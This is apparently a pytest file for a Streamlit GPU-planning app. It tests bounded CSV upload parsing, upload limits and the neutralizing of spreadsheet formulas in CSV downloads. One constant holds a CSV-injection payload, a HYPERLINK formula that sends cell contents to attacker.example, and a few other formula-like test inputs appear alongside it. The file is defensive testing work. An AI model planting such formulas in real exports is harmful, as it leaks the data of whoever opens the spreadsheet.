"""Uploads and downloads: bounded reading of a lengths CSV, bounded messages, safe CSV exports.

- :func:`planner.traffic.lengths_csv.parse_lengths_csv` reads a stream and stops at its limits
  (rows, characters, line and cell length) without reading the rest;
- its messages quote at most :data:`planner.text.ECHO_CHARS` characters of the file;
- the server's upload limit (``.streamlit/config.toml``) and the lengths uploaders' own limit;
- an upload is parsed once, not on every rerun;
- every CSV download neutralizes cells a spreadsheet would run as formulas (OWASP, CSV Injection).
"""

from __future__ import annotations

import ast
import io
import itertools
import re
import tomllib
from pathlib import Path

import pandas as pd
import pytest
import streamlit
from streamlit.testing.v1 import AppTest

from planner.text import ECHO_CHARS
from planner.traffic.lengths_csv import MAX_CSV_CELL_CHARS, MAX_CSV_LINE_CHARS, parse_lengths_csv
from ui import custom_panel, downloads, traffic

ROOT = Path(__file__).resolve().parents[1]
ALLOCATION = "pages/6_Allocation.py"
CONCURRENCY = "pages/3_Concurrency.py"
FIND = "pages/7_Find_a_GPU_setup.py"
FORMULA_NAME = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")'


class GuardedStream(io.TextIOBase):
    """A text stream of ``header`` then endless ``row`` lines that fails the test if read past ``max_lines``."""

    def __init__(self, header: str, row: str, max_lines: int) -> None:
        self.header, self.row, self.max_lines, self.lines_read = header, row, max_lines, 0

    def readline(self, size: int = -1) -> str:
        self.lines_read += 1
        if self.lines_read > self.max_lines:
            raise AssertionError(f"read past line {self.max_lines:,}: the parser did not stop at its limit")
        line = self.header if self.lines_read == 1 else self.row
        return line if size < 0 else line[:size]


def quoted_run(message: str, char: str) -> int:
    """Longest run of ``char`` in ``message``: how much of a repeated input it quotes."""
    return max((len(m) for m in re.findall(f"{re.escape(char)}+", message)), default=0)


# --- streaming and limits ---------------------------------------------------------------


def test_a_big_stream_stops_at_the_row_limit_without_reading_the_rest():
    stream = GuardedStream("prompt_len,output_len\n", "1000,200\n", max_lines=1_002)
    with pytest.raises(ValueError, match=r"more than 1,000 rows.*line 1,002.*the limit is 1,000"):
        parse_lengths_csv(stream, max_rows=1_000)
    assert stream.lines_read == 1_002  # the header, 1,000 rows and the one that broke the limit


def test_an_endless_generator_of_lines_stops_at_the_row_limit():
    lines = itertools.chain(["tokens\n"], itertools.repeat("7\n"))
    with pytest.raises(ValueError, match="more than 500 rows"):
        parse_lengths_csv(lines, max_rows=500)


def test_endless_comment_lines_stop_at_the_character_limit():
    stream = GuardedStream("tokens\n", "# a comment line\n", max_lines=200)
    with pytest.raises(ValueError, match=r"longer than 1,000 characters.*the limit is 1,000"):
        parse_lengths_csv(stream, max_chars=1_000)  # 17 characters a line: stops at line 59


def test_a_text_of_millions_of_rows_is_not_split_whole():
    text = "1\n" * 3_000_000  # 6 MB: 3 million rows
    with pytest.raises(ValueError, match=r"more than 1,000,000 rows.*line 1,000,001"):
        parse_lengths_csv(text)


def test_line_endings_and_byte_order_mark():
    assert parse_lengths_csv("\ufeffprompt_len,output_len\r\n5,1\r\n6,2\r\n").prompt == (5, 6)
    assert parse_lengths_csv("5\r6\r7").total == (5, 6, 7)  # old Mac line breaks
    assert parse_lengths_csv(io.StringIO("tokens\n3\n4\n")).total == (3, 4)
    assert parse_lengths_csv(["tokens", "3", "4"]).total == (3, 4)


# --- bounded messages -------------------------------------------------------------------


def test_a_20_mb_cell_is_refused_unread_and_quoted_short():
    text = "9" * 20_000_000
    with pytest.raises(ValueError) as err:
        parse_lengths_csv(text)
    message = str(err.value)
    assert f"longer than {MAX_CSV_LINE_CHARS:,} characters" in message and "line 1 " in message
    assert quoted_run(message, "9") <= ECHO_CHARS and len(message) < 300


def test_an_over_long_cell_within_a_line_names_the_limit_and_quotes_60_characters():
    with pytest.raises(ValueError) as err:
        parse_lengths_csv("prompt_len,output_len\n100," + "5" * 500 + "\n")
    message = str(err.value)
    assert f"at most {MAX_CSV_CELL_CHARS} characters" in message and "500 characters" in message
    assert "line 2" in message and quoted_run(message, "5") <= ECHO_CHARS


@pytest.mark.parametrize("text", [
    "x" * 900 + "\n1\n",  # a header cell
    "prompt_len,output_len\n1," + "x" * 30 + "\n",  # a bad number
    "prompt_len," + "y" * 30 + "\n1,2\n",  # an unknown column
    "prompt_len,prompt_len\n1,2\n",  # a duplicate column
])
def test_every_message_quotes_at_most_60_characters(text):
    with pytest.raises(ValueError) as err:
        parse_lengths_csv(text)
    message = str(err.value)
    assert quoted_run(message, "x") <= ECHO_CHARS and quoted_run(message, "y") <= ECHO_CHARS
    assert len(message) < 300


# --- upload limits ----------------------------------------------------------------------


def test_the_server_upload_limit_is_the_largest_uploaders_own():
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    limit = config["server"]["maxUploadSize"]
    # The server enforces only this one (an uploader's max_upload_size is checked in the browser), so it
    # must let the largest uploader through and no more; Streamlit's default is 200 MB.
    assert limit == max(traffic.LENGTHS_UPLOAD_LIMIT_MB, custom_panel.CONFIG_UPLOAD_LIMIT_MB,
                        custom_panel._GGUF_UPLOAD_LIMIT_MB)
    assert limit < 200


def upload_csv(at: AppTest, name: str, data: bytes) -> None:
    uploader = next(u for u in at.get("file_uploader") if u.proto.id.endswith("lengths_csv"))
    uploader.set_value((name, data, "text/csv"))


@pytest.fixture
def parse_calls(monkeypatch):
    """Calls of the CSV parser made by the pages (through ui.traffic)."""
    calls = []
    real = traffic.parse_lengths_csv

    def counting(*args, **kwargs):
        calls.append(1)
        return real(*args, **kwargs)

    monkeypatch.setattr(traffic, "parse_lengths_csv", counting)
    return calls


def test_allocation_upload_is_limited_and_parsed_once_across_reruns(parse_calls):
    at = AppTest.from_file(str(ROOT / ALLOCATION), default_timeout=90)
    at.query_params["users"] = "20"
    at.run()
    uploader = next(u for u in at.get("file_uploader") if u.proto.id.endswith("lengths_csv"))
    assert uploader.proto.max_upload_size_mb == traffic.LENGTHS_UPLOAD_LIMIT_MB
    upload_csv(at, "lengths.csv", b"prompt_len,output_len\n500,100\n900,300\n")
    at.run()
    assert not at.exception and not at.error, [e.value for e in at.error]
    assert "prompt from the CSV: 2 values" in " ".join(c.value for c in at.caption)  # QA: not "prompt CSV prompts"
    at.number_input(key="users").set_value(30).run()  # a rerun: same upload
    at.run()
    assert not at.error and len(parse_calls) == 1
    upload_csv(at, "other.csv", b"tokens\n700\n")  # a new upload is read
    at.run()
    assert not at.error and len(parse_calls) == 2


def test_a_bad_or_oversized_upload_errors_once_and_names_the_limit(parse_calls):
    at = AppTest.from_file(str(ROOT / ALLOCATION), default_timeout=90)
    at.query_params["users"] = "20"
    at.run()
    upload_csv(at, "bad.csv", b"tokens\n" + b"z" * 500 + b"\n")
    at.run().run()
    assert len(parse_calls) == 1 and len(at.error) == 1
    assert "line 2" in at.error[0].value and quoted_run(at.error[0].value, "z") <= ECHO_CHARS
    big = b"tokens\n" + b"1\n" * (traffic.LENGTHS_UPLOAD_MAX_BYTES // 2)  # past the limit: the browser would refuse it
    upload_csv(at, "big.csv", big)
    at.run()
    message = at.error[0].value
    assert f"{len(big):,} bytes" in message and f"{traffic.LENGTHS_UPLOAD_MAX_BYTES:,} bytes" in message
    assert len(parse_calls) == 1  # refused by its size, never read


def test_the_find_page_uploader_is_limited_too():
    at = AppTest.from_file(str(ROOT / FIND), default_timeout=90)
    at.query_params["model"] = "meta-llama/Meta-Llama-3.1-8B"
    at.run()
    uploader = next(u for u in at.get("file_uploader") if u.proto.id.endswith("lengths_csv"))
    assert uploader.proto.max_upload_size_mb == traffic.LENGTHS_UPLOAD_LIMIT_MB


# --- CSV downloads ----------------------------------------------------------------------


def test_csv_text_prefixes_formula_cells_and_keeps_numbers():
    table = pd.DataFrame({"GPU": [FORMULA_NAME, "H100", "+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx", "-5", None],
                          "users": [-1, 2, 3, 4, 5, 6, 7, 8, 9], "share": [-0.5] * 9,
                          "mixed": ["=1", -2, 3.5, "a", None, "b", "c", "d", "e"]})
    back = pd.read_csv(io.StringIO(downloads.csv_text(table)), keep_default_na=False)
    assert list(back["GPU"][:8]) == ["'" + FORMULA_NAME, "H100", "'+cmd", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx", "-5"]
    assert list(back["users"]) == list(table["users"]) and list(back["share"]) == [-0.5] * 9
    assert list(back["mixed"][:4]) == ["'=1", "-2", "3.5", "a"]
    assert downloads.csv_text(pd.DataFrame({"=bad": [1]})).splitlines()[0] == "'=bad"


def test_every_download_button_passes_its_data_through_csv_text():
    sites = []
    for path in [ROOT / "app.py", *sorted((ROOT / "pages").glob("*.py")), *sorted((ROOT / "ui").glob("*.py"))]:
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call) and getattr(node.func, "attr", None) == "download_button":
                data = node.args[1] if len(node.args) > 1 else next(k.value for k in node.keywords if k.arg == "data")
                sites.append((path.name, ast.unparse(data)))
    assert len(sites) >= 2
    yaml_sites = {("8_Disaggregation.py", "values"),  # llm-d values YAML (planner.scale.deploy), not a spreadsheet
                  ("find_scale_view.py", "s.llm_d_values")}
    for name, data in sites:
        assert data.startswith(("downloads.csv_text(", "downloads.deferred_csv(")) or (name, data) in yaml_sites, \
            (name, data)


@pytest.fixture
def downloaded(monkeypatch):
    """The data of every st.download_button the pages render."""
    data = []
    real = streamlit.download_button

    def recording(label, payload, *args, **kwargs):
        data.append(payload() if callable(payload) else payload)  # deferred: what a click would download
        return real(label, payload, *args, **kwargs)

    monkeypatch.setattr(streamlit, "download_button", recording)
    return data


def formula_gpu_code() -> str:
    from model_catalog.custom import custom_gpu
    from model_catalog.share_codec import encode_gpu

    return encode_gpu(custom_gpu(FORMULA_NAME, 24, "GiB", 900.0, 0.44))


@pytest.mark.parametrize("page, params", [
    (CONCURRENCY, {"model": "meta-llama/Meta-Llama-3-8B", "gpus": ["custom", "nvidia-h100-sxm-80gb"]}),
    (FIND, {"model": "meta-llama/Meta-Llama-3.1-8B", "users": "2", "prompt_len": "18000", "output_len": "2000"}),
])
def test_a_custom_gpu_named_like_a_formula_is_neutralized_in_the_download(page, params, downloaded):
    at = AppTest.from_file(str(ROOT / page), default_timeout=90)
    tab = {CONCURRENCY: {"concurrency_section": "Table by context length"}}.get(page, {})  # the CSV's lazy tab
    for key, value in {**params, **tab, "custom_gpu": formula_gpu_code()}.items():
        at.query_params[key] = value
    at.run()
    assert not at.exception and not at.error, [e.value for e in at.error]
    assert len(downloaded) == 1
    rows = pd.read_csv(io.StringIO(downloaded[0]), keep_default_na=False)
    cells = [str(v) for v in rows.to_numpy().ravel()]
    assert "'" + FORMULA_NAME in cells
    assert not any(c.startswith(downloads.FORMULA_PREFIXES) and not re.fullmatch(r"-?[\d.]+(e[+-]?\d+)?", c)
                   and c not in downloads.PLACEHOLDERS for c in cells)  # a lone "-": no formula, left as it is


def test_a_lone_dash_placeholder_stays_a_dash_and_a_dash_formula_is_still_prefixed():
    """The Find CSV's Notes column read ``'-`` on every row without a note (QA): a lone dash runs nothing, so it is
    written as it is; ``-2+3`` and ``-cmd`` still get the quote."""
    table = pd.DataFrame({"Notes": ["-", "-2+3", "-cmd", "- ", "--"]})
    back = pd.read_csv(io.StringIO(downloads.csv_text(table)), keep_default_na=False)
    assert list(back["Notes"]) == ["-", "'-2+3", "'-cmd", "'- ", "'--"]
